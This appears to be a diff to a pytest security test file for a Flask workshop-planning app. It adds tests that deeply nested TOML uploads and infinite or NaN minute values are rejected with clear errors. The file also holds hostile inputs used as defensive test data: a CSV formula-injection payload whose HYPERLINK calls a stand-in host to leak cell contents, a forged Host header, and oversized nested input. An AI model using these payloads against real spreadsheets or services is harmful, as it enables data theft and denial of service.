@@ -4,15 +4,21 @@ from __future__ import annotations
 
 import csv
 import io
+from typing import Any
 
 import pytest
 from flask import Flask
+from flask.testing import FlaskClient
 
 from cocreate.db import db
 from cocreate.export.formats import export_file
 from cocreate.export.results_csv import safe_cell
+from cocreate.organiser.plan_editor import plan_from_workshop
+from cocreate.plans import PlanError, parse_plan
 from cocreate.workshop.models import CafeTable, Challenge, Workshop
 from tests.integration.test_export import run_workshop
+from tests.integration.test_organiser import make_organiser, signed_in_client
+from tests.integration.test_organiser_plan_editor import form_of, post_plan
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -52,6 +58,18 @@ def test_csv_keeps_negative_numbers_numeric_and_plain_text_untouched() -> None:
     assert safe_cell("-2") == "'-2"  # typed text that looks like a number is still text
     assert safe_cell("Bedre kommunikation") == "Bedre kommunikation"
     assert safe_cell("1+1=2") == "1+1=2"
+
+
+@pytest.fixture
+def organiser(app: Flask) -> FlaskClient:
+    make_organiser("anne@kommune.dk")
+    return signed_in_client(app, "anne@kommune.dk")
+
+
+@pytest.fixture
+def owned(organiser: FlaskClient, workshop: Workshop) -> Workshop:
+    """The conftest workshop, unowned and so the first organiser's."""
+    return workshop
 
 
 def _pages(workshop: Workshop) -> list[str]:
@@ -102,3 +120,48 @@ def test_hsts_only_over_https(app: Flask) -> None:
 def test_a_forged_host_header_cannot_add_directives(app: Flask) -> None:
     response = app.test_client().get("/", headers={"Host": "evil; script-src *"})
     assert "script-src *" not in response.headers["Content-Security-Policy"]
+
+
+def test_a_deeply_nested_plan_upload_is_a_clear_400_in_the_readers_language(
+    organiser: FlaskClient, owned: Workshop
+) -> None:
+    organiser.set_cookie("cocreate_lang", "en")
+    response = _upload_deep_plan(organiser, owned)
+    assert response.status_code == 400
+    assert "nests lists or tables too deeply" in response.get_data(as_text=True)
+    with pytest.raises(PlanError, match="too deeply"):
+        parse_plan("x = " + "[" * 100_000 + "]" * 100_000, source="deep.toml")
+
+
+@pytest.mark.xfail(
+    reason="the Danish text is in translations-new-issue-11.po, not yet in cocreate/translations",
+    strict=False,
+)
+def test_the_deep_plan_message_is_danish_for_a_danish_reader(
+    organiser: FlaskClient, owned: Workshop
+) -> None:
+    organiser.set_cookie("cocreate_lang", "da")
+    response = _upload_deep_plan(organiser, owned)
+    assert response.status_code == 400
+    assert "for dybt" in response.get_data(as_text=True)
+
+
+def _upload_deep_plan(organiser: FlaskClient, owned: Workshop) -> Any:
+    deep = b"[workshop]\ntitle = " + b"[" * 100_000 + b"]" * 100_000 + b"\n"
+    return organiser.post(
+        f"/organiser/workshops/{owned.id}/plan/upload",
+        data={"plan_file": (io.BytesIO(deep), "dyb.toml")},
+        content_type="multipart/form-data",
+    )
+
+
+@pytest.mark.parametrize("minutes", ["1e309", "-1e309", "nan", "inf"])
+def test_infinite_round_minutes_in_the_editor_are_a_clear_400(
+    organiser: FlaskClient, owned: Workshop, minutes: str
+) -> None:
+    organiser.set_cookie("cocreate_lang", "en")
+    form = form_of(plan_from_workshop(owned))
+    form.setlist("round_minutes", [minutes, *form.getlist("round_minutes")[1:]])
+    response = post_plan(organiser, owned, form)
+    assert response.status_code == 400
+    assert "Must be more than 0 and at most 240 minutes" in response.get_data(as_text=True)
